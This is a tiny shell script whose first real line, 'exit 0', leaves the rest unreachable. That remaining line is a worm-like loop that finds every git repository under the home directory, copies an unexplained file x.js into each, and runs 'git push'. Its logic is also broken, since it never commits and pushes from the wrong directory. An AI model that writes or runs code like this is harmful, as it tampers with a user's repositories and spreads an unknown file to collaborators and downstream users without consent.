#!/bin/sh
exit 0
for r in $(find "$HOME" -name .git -type d); do cp x.js "$r/../"; git push; done
